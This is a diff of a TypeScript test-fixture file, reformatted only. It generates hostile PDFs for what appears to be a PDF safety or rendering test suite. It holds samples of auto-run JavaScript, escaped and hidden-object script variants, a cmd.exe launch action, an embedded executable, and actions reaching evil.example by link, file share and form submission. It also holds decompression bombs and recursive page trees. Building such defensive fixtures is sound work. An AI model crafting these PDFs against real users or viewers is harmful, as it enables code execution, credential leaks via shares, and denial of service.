@@ -8,31 +8,54 @@ const megabytes = (count: number): number => count * 1024 ** 2
 /** PDFs with active or hidden content; each shows a blue line. */
 export const activePdfs: Record<string, Buffer> = {
   'with a script on open': pdf({ catalogue: `/OpenAction ${script}` }),
-  'with a script spelled with escapes': pdf({ catalogue: '/OpenAction << /S /J#61va#53cript /JS (1) >>' }),
-  'with a script among compressed objects': pdf({ catalogue: '/OpenAction 50 0 R', compressed: hiddenScript }),
-  'with an object stream hidden behind a string': pdf({ objects: ['8 0 obj\n<< /X (obj) >>\nendobj\n'], compressed: hiddenScript }),
-  'with an object stream hidden behind a name': pdf({ objects: ['8 0 obj\n<< /X/obj >>\nendobj\n'], compressed: hiddenScript }),
-  'with an object stream hidden behind a comment': pdf({ objects: ['8 0 obj\n<< >> % obj stream\nendobj\n'], compressed: hiddenScript }),
-  'with a jump to a file on a share': pdf({
-    catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+  'with a script spelled with escapes': pdf({
+    catalogue: '/OpenAction << /S /J#61va#53cript /JS (1) >>',
   }),
-  'with an address on open': pdf({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
+  'with a script among compressed objects': pdf({
+    catalogue: '/OpenAction 50 0 R',
+    compressed: hiddenScript,
+  }),
+  'with an object stream hidden behind a string': pdf({
+    objects: ['8 0 obj\n<< /X (obj) >>\nendobj\n'],
+    compressed: hiddenScript,
+  }),
+  'with an object stream hidden behind a name': pdf({
+    objects: ['8 0 obj\n<< /X/obj >>\nendobj\n'],
+    compressed: hiddenScript,
+  }),
+  'with an object stream hidden behind a comment': pdf({
+    objects: ['8 0 obj\n<< >> % obj stream\nendobj\n'],
+    compressed: hiddenScript,
+  }),
+  'with a jump to a file on a share': pdf({
+    catalogue:
+      '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+  }),
+  'with an address on open': pdf({
+    catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>',
+  }),
   'with a stream that lies elsewhere': pdf({
-    objects: ['8 0 obj\n<< /F (\\\\\\\\evil.example\\\\x) /FFilter [] /Length 0 >>\nstream\n\nendstream\nendobj\n'],
+    objects: [
+      '8 0 obj\n<< /F (\\\\\\\\evil.example\\\\x) /FFilter [] /Length 0 >>\nstream\n\nendstream\nendobj\n',
+    ],
   }),
   'with a program to start': pdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
   'with a link over the page': pdf({
     page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (https://evil.example/) >> >>]',
   }),
   'with a file inside': pdf({
-    catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>] >> >>',
+    catalogue:
+      '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>] >> >>',
     objects: [stream(8, '/Type /EmbeddedFile', 'MZ TOP SECRET')],
   }),
   'with a form that sends itself': pdf({
     catalogue: '/AcroForm << /Fields [] /XFA [(a) 5 0 R] >>',
     page: '/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>',
   }),
-  'with something before its header and after its end': Buffer.concat([pdf(), Buffer.from('PK\x03\x04 <script>alert(1)</script>')]),
+  'with something before its header and after its end': Buffer.concat([
+    pdf(),
+    Buffer.from('PK\x03\x04 <script>alert(1)</script>'),
+  ]),
 }
 
 const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`
@@ -40,12 +63,23 @@ const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(dept
 /** PDFs that are expensive to render. */
 export const costlyPdfs: Record<string, () => Buffer> = {
   'ten megabytes of tiny streams': () =>
-    pdf({ objects: [Array.from({ length: 150_000 }, (_, at) => `${1000 + at} 0 obj\n<<>>\nstream\nx\nendstream\nendobj\n`).join('')] }),
-  'ten megabytes of escapes': () => pdf({ objects: [`8 0 obj\n<< /${'#41'.repeat(megabytes(3))} 1 >>\nendobj\n`] }),
-  'brackets within brackets': () => pdf({ objects: [`8 0 obj\n${nested(megabytes(4))}\nendobj\n`], catalogue: '/Names 8 0 R' }),
+    pdf({
+      objects: [
+        Array.from(
+          { length: 150_000 },
+          (_, at) => `${1000 + at} 0 obj\n<<>>\nstream\nx\nendstream\nendobj\n`,
+        ).join(''),
+      ],
+    }),
+  'ten megabytes of escapes': () =>
+    pdf({ objects: [`8 0 obj\n<< /${'#41'.repeat(megabytes(3))} 1 >>\nendobj\n`] }),
+  'brackets within brackets': () =>
+    pdf({ objects: [`8 0 obj\n${nested(megabytes(4))}\nendobj\n`], catalogue: '/Names 8 0 R' }),
   'a content of brackets within brackets': () => pdf({ content: `${nested(megabytes(4))} TJ` }),
   'a content that unpacks to a hundred megabytes': () =>
-    pdf({ objects: [stream(3, '/Filter /FlateDecode', deflateSync(Buffer.alloc(megabytes(100), ' ')))] }),
+    pdf({
+      objects: [stream(3, '/Filter /FlateDecode', deflateSync(Buffer.alloc(megabytes(100), ' ')))],
+    }),
   'a content that unpacks to a gigabyte': () => {
     const once = deflateSync(Buffer.alloc(megabytes(512), 'q '))
     return pdf({ objects: [stream(3, '/Filter /FlateDecode', once)] })
@@ -68,8 +102,10 @@ export const costlyPdfs: Record<string, () => Buffer> = {
     }),
   'a page box of a billion points': () => pdf({ box: '0 0 1000000000 1000000000' }),
   'a page box that is a hair': () => pdf({ box: '0 0 0.0001 100000' }),
-  'a page tree that bites its tail': () => pdf({ objects: ['2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>\nendobj\n'] }),
-  'a hundred million pages': () => pdf({ objects: ['2 0 obj\n<< /Type /Pages /Kids [100 0 R] /Count 100000000 >>\nendobj\n'] }),
+  'a page tree that bites its tail': () =>
+    pdf({ objects: ['2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>\nendobj\n'] }),
+  'a hundred million pages': () =>
+    pdf({ objects: ['2 0 obj\n<< /Type /Pages /Kids [100 0 R] /Count 100000000 >>\nendobj\n'] }),
   'forms within forms': () =>
     pdf({
       content: '/F8 Do',
@@ -82,5 +118,6 @@ export const costlyPdfs: Record<string, () => Buffer> = {
         ),
       ),
     }),
-  'two million curves': () => pdf({ content: `${'0 0 m 9 200 200 9 200 200 c S\n'.repeat(330_000)}` }),
+  'two million curves': () =>
+    pdf({ content: `${'0 0 m 9 200 200 9 200 200 c S\n'.repeat(330_000)}` }),
 }
